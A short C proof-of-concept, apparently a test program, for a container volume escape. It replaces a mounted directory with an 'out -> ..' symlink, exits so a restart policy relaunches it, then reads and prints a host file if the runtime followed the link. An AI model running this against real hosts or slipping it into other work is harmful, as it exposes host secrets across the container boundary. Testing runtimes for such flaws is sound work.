/* The attack on held volumes: run with `/src` and `/out`, where the host
 * directory of `/out` is `out` inside that of `/src`. While `/src/out` is a
 * directory, it moves it away, leaves a link `out -> ..` in its place, says
 * "rewritten" and exits 1 (so a restart policy starts it again). Else it
 * reads `/out/secret` — the host file beside the volumes, if the link was
 * followed — and prints "leaked: ..." (exit 0), or "nothing to read"
 * (exit 2). */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    struct stat st;
    if (lstat("/src/out", &st) == 0 && S_ISDIR(st.st_mode)) {
        if (rename("/src/out", "/src/out.old") != 0 || symlink("..", "/src/out") != 0) {
            perror("rewrite");
            return 3;
        }
        puts("rewritten");
        return 1;
    }
    FILE *secret = fopen("/out/secret", "r");
    if (secret) {
        char line[256] = {0};
        fgets(line, sizeof line, secret);
        printf("leaked: %s", line);
        return 0;
    }
    puts("nothing to read");
    return 2;
}
